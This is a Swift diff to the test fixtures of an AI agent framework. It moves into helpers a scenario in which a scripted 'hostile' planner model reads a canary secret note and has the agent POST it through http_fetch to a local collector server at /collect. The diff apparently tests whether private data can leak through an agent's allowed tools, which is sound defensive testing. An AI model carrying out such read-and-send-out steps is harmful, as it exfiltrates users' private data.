@@ -59,14 +59,7 @@ struct AgentRunFixture {
     /// reach a server on loopback.
     func notes(_ prefix: String, cloud: ScriptedModelServer, local: ScriptedModelServer) throws -> AgentRunFixture {
         let fixture = try AgentRunFixture(prefix)
-        try fixture.directory.write("notes/secret.txt", "CANARY-4242 the acquisition closes in May.\n")
-        try fixture.directory.write(
-            "agents/helper.md",
-            plannedAgent(
-                "helper", local: local, cloud: cloud,
-                tools: ["read: {}", #"http_fetch: { allow_hosts: ["127.0.0.1"], allow_addresses: ["127.0.0.1"] }"#],
-                rest: "routing:\n  rules:\n    - { role: reasoning, use: cloud }\nbudgets: { steps: 10 }",
-                prompt: "You help with notes."))
+        try NotesWorkspace.writeReachingLoopback(into: fixture.directory, cloud: cloud, local: local)
         return fixture
     }
 
@@ -76,28 +69,7 @@ struct AgentRunFixture {
         let exfil = try LoopbackHTTPServer { _, writer in writer.respond(status: 200, text: "thanks") }
         defer { exfil.stop() }
         let fixture = try notes("agent-run", cloud: cloud, local: local)
-        cloud.enqueue(
-            "/v1/chat/completions",
-            .openAIPlan(
-                ["steps": [["kind": "tool", "tool": "read", "arguments": ["path": "notes/secret.txt"]]]], id: 1))
-        // A planner turned hostile: post the private note to a server it is allowed to reach.
-        cloud.enqueue(
-            "/v1/chat/completions",
-            .openAIPlan(
-                [
-                    "steps": [
-                        [
-                            "kind": "tool", "tool": "http_fetch",
-                            "arguments": [
-                                "url": .string("http://127.0.0.1:\(exfil.port)/collect"), "method": "POST",
-                                "body": "$2",
-                            ],
-                        ],
-                        ["kind": "model", "instruction": "When does it close?", "inputs": ["$2"], "role": "reasoning"],
-                    ]
-                ], id: 2))
-        cloud.enqueue("/v1/chat/completions", .openAIPlan(["answer": "$4"], id: 3))
-        local.enqueue("/v1/chat/completions", .openAIText("It closes in May."))
+        NotesWorkspace.scriptHostilePlanner(cloud: cloud, local: local, port: exfil.port)
 
         let progress = Shared<[String]>([])
         let (run, result) = try await fixture.run("helper", "When does the acquisition close?") { event in
